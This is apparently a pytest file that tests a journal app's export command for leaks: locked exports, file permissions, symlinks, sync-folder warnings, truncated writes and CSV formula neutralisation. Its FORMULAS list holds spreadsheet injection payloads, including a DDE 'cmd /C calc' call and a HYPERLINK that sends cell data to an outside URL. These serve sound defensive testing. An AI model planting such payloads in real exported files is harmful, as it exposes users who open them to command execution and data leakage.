"""An export is made for whoever may read the journal, in one file, that they asked for."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
from typing import TYPE_CHECKING

import pytest

from tests.journals import Mode
from tests.leaks.household import hiding_nothing, make_household
from tests.leaks.probe import CANARY, find_in_files
from tests.program import SCRIPT

if TYPE_CHECKING:
    from pathlib import Path

    from tests.leaks.household import Household
    from tests.saying import Say

FORMATS = ("json", "markdown", "csv")
# What spreadsheets are known to run, or to take for something to run.
FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "- milk",
    "@SUM(A1:A9)",
    "@Ada said so",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
    '="a"&"b"',
    "'=1+1",
    "''-1",
    "=IMPORTXML(CONCAT(A1),'//a')",
    "-2+3+cmd|' /C calc'!A0",
)
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def house(tmp_path: Path) -> Household:
    """An account with the word in an encrypted journal."""
    house = make_household(tmp_path, Mode.ENCRYPTED)
    words = f"{CANARY} here\n".encode()
    assert house("write", "--tag", f"{CANARY}-tag", stdin=words).code == 0
    return house


@pytest.mark.leak(18)
@pytest.mark.slow
@pytest.mark.parametrize("form", FORMATS)
def test_while_locked_nothing_goes_out(house: Household, form: str) -> None:
    out = house.root / "home" / "diary"
    argv = ("export", "--format", form, "--out")

    for place in (str(out), "-"):
        refused = house(*argv, place, unlock=False)
        assert (refused.code, refused.out) == (4, b"")
        assert CANARY.encode() not in refused.err
    assert find_in_files(CANARY, house.looked_through) == []

    # With the passphrase the same lines write it.
    assert house(*argv, str(out)).code == 0
    assert [str(out)] == find_in_files(CANARY, house.looked_through)


@pytest.mark.leak(18)
@pytest.mark.slow
@pytest.mark.parametrize("form", FORMATS)
def test_the_file_is_for_this_account_alone(house: Household, form: str) -> None:
    out = house.root / "home" / "diary"
    with hiding_nothing():
        said = house("export", "--format", form, "--out", str(out))
        (house.root / "other").touch()

    assert stat.S_IMODE((house.root / "other").stat().st_mode) == 0o666
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert b"readable by anyone who opens it" in said.err
    assert CANARY.encode() not in said.out + said.err


@pytest.mark.leak(18)
def test_nothing_is_overwritten_and_no_link_is_followed(
    say: Say, tmp_path: Path
) -> None:
    say.write(f"{CANARY} here")
    there, link, dangling = (tmp_path / name for name in ("there", "link", "dangling"))
    there.write_text("mine")
    link.symlink_to(there)
    dangling.symlink_to(tmp_path / "nowhere")

    for place in (there, link, dangling):
        assert say("export", "--out", str(place), code=2).out == ""

    assert there.read_text() == "mine"
    assert not (tmp_path / "nowhere").exists()
    assert say("export", "--out", str(tmp_path / "new")).code == 0
    assert CANARY in (tmp_path / "new").read_text()


@pytest.mark.leak(18)
@pytest.mark.parametrize("name", ["Dropbox", "Nextcloud", "OneDrive"])
def test_a_folder_that_is_copied_elsewhere_is_told(
    say: Say, tmp_path: Path, name: str
) -> None:
    say.write(CANARY)
    for folder in (name, "Papers"):
        (tmp_path / folder).mkdir()

    synced = say("export", "--out", str(tmp_path / name / "a.json")).err
    usual = say("export", "--out", str(tmp_path / "Papers" / "a.json")).err

    assert "copied elsewhere" in synced
    assert "copied elsewhere" not in usual


@pytest.mark.leak(18)
@pytest.mark.slow
def test_what_is_cut_off_half_way_leaves_no_file(house: Household) -> None:
    # The disk is full after a few bytes: the limit is one of this process alone.
    out = house.root / "home" / "diary"
    for _ in range(40):
        house("write", stdin=f"{CANARY} {'words ' * 900}".encode())
    line = f'ulimit -f 64; exec "{SCRIPT}" export --out "{out}" --passphrase-fd 3'
    environ = house.program.environ(**house.environ())

    ended = subprocess.run(
        ["/bin/sh", "-c", f'{line} 3< "{house.secret}"'],
        env=environ,
        capture_output=True,
        check=False,
    )

    assert ended.returncode == 8, ended.stderr
    assert find_in_files(CANARY, house.looked_through) == []
    assert house("export", "--out", str(out)).code == 0
    assert out.stat().st_size > 64 * 1024


@pytest.mark.leak(25)
def test_no_cell_is_a_formula(say: Say) -> None:
    for formula in FORMULAS:
        say.write(formula)
    say.write("plain", "--tag", "=1+1", "--with", "-Ada")

    def cells(*options: str) -> list[str]:
        out = say("export", "--format", "csv", "--out", "-", *options).out
        return [cell for row in csv.reader(io.StringIO(out)) for cell in row]

    assert [cell for cell in cells() if cell.startswith(STARTS)] == []
    # Without the guard there are many, and the same look finds them.
    assert len([cell for cell in cells("--raw") if cell.startswith(STARTS)]) > 12


@pytest.mark.leak(25)
@pytest.mark.parametrize("options", [(), ("--raw",)], ids=["guarded", "raw"])
def test_what_was_guarded_comes_back_as_it_was(
    say: Say, tmp_path: Path, options: tuple[str, ...]
) -> None:
    for formula in FORMULAS:
        say.write(formula)
    file = tmp_path / "diary.csv"
    say("export", "--format", "csv", "--out", str(file), *options)
    ids = [each["id"] for each in say("list", "-n", "0", "--json").json["entries"]]
    say("delete", *ids)
    say("bin", "purge", "--all", "--yes")

    say("import", str(file))

    read = [say("read", each, "--json").json["entries"][0]["body"] for each in ids]
    assert sorted(read) == sorted(FORMULAS)


@pytest.mark.leak(18)
def test_a_pipe_gets_it_and_no_file_is_made(say: Say, tmp_path: Path) -> None:
    say.write(f"{CANARY} here")
    before = {*tmp_path.rglob("*")}

    out = say("export", "--out", "-").out

    assert CANARY in out
    assert {*tmp_path.rglob("*")} - before <= {*(say.home / "backups").rglob("*")}
    assert os.linesep in out
